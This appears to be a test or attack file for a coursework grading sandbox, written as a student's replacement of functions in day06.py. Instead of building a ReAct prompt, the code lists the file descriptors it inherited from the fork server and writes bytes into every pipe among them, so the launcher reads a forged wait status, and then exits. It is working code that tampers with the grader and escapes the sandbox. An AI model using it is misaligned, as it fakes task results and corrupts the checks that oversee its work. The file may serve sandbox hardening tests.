# A student's addition to day06.py: a child forked warm from the fork server is not exec'd, so it
# could hold descriptors of the jail's builders. Write to every pipe among them, to choose the exit
# status the grader reports: the launcher reads the sandbox's wait status from one of them.
import os as _os
import stat as _stat
import sys as _sys


def _pipes():
    found = []
    for name in _os.listdir("/proc/self/fd"):
        try:
            if int(name) > 2 and int(name) != int(_sys.argv[1]) and _stat.S_ISFIFO(_os.fstat(int(name)).st_mode):
                found.append(int(name))
        except OSError:
            pass
    return found


def get_tools_description(tools):
    return f"ATTACK-RAN forge_the_exit_status; pipes: {_pipes()}"


def build_react_prompt(user_input, tools, steps):
    for fd in _pipes():
        try:
            _os.write(fd, b"1")  # pid 1 then writes "0": the launcher would read "10", signal 10
        except OSError:
            pass
    _os._exit(0)
